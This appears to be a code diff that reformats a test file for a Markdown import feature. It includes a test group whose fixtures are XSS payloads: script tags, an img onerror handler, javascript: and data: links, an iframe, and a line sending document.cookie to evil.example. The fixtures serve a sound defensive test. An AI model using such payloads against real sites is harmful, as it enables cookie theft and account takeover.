@@ -77,9 +77,7 @@ describe("Markdown import: structure", () => {
   it("keeps a heading with nothing under it as a step with an empty body", () => {
     const c = content(article);
     expect(c.steps[1]).toMatchObject({ title: "Why people don't ask", body: "" });
-    expect(content("# Only a title").steps).toEqual([
-      { key: "only-a-title", title: "Only a title", body: "", facilitatorNotes: "", reactions: true },
-    ]);
+    expect(content("# Only a title").steps).toEqual([{ key: "only-a-title", title: "Only a title", body: "", facilitatorNotes: "", reactions: true }]);
   });
 
   it("turns text before the first heading into an Introduction step", () => {
@@ -154,7 +152,9 @@ describe("Markdown import: structure", () => {
     ).steps[0].body;
     const types = typesIn(body);
     for (const type of ["link", "inlineCode", "break", "list", "blockquote", "emphasis", "code"]) expect(types, type).toContain(type);
-    const urls = nodes(body).filter((n) => n.type === "link").map((n) => n.url);
+    const urls = nodes(body)
+      .filter((n) => n.type === "link")
+      .map((n) => n.url);
     expect(urls).toEqual(["https://example.org/a_%28b%29", "mailto:help@example.org", "tel:+10000000000"]);
   });
 
@@ -231,7 +231,15 @@ describe("Markdown import: length limits", () => {
     const code = content(`# Code\n\n\`\`\`html\n${lines.join("\n")}\n\`\`\``);
     expect(code.steps.length).toBeGreaterThan(1);
     for (const step of code.steps) expect([...typesIn(step.body)].sort()).toEqual(["code", "root"]);
-    expect(code.steps.flatMap((s) => nodes(s.body).filter((n) => n.type === "code").map((n) => n.value)).join("\n")).toBe(lines.join("\n"));
+    expect(
+      code.steps
+        .flatMap((s) =>
+          nodes(s.body)
+            .filter((n) => n.type === "code")
+            .map((n) => n.value),
+        )
+        .join("\n"),
+    ).toBe(lines.join("\n"));
   });
 
   it("shortens a very long heading but keeps it whole in the body", () => {
@@ -289,13 +297,13 @@ describe("Markdown import: malicious input is rendered inert", () => {
   const malicious = [
     "# Welcome <script>alert('title')</script>",
     "",
-    "Hello <img src=x onerror=alert(1)> world. <a href=\"javascript:alert(2)\">click</a>",
+    'Hello <img src=x onerror=alert(1)> world. <a href="javascript:alert(2)">click</a>',
     "",
     "<script>",
     "fetch('https://evil.example/?c=' + document.cookie)",
     "</script>",
     "",
-    "<iframe src=\"https://evil.example\"></iframe>",
+    '<iframe src="https://evil.example"></iframe>',
     "",
     "[Click me](javascript:alert(3)) [Or me](JAVASCRIPT:alert(4)) [data](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(5)>",
     "",
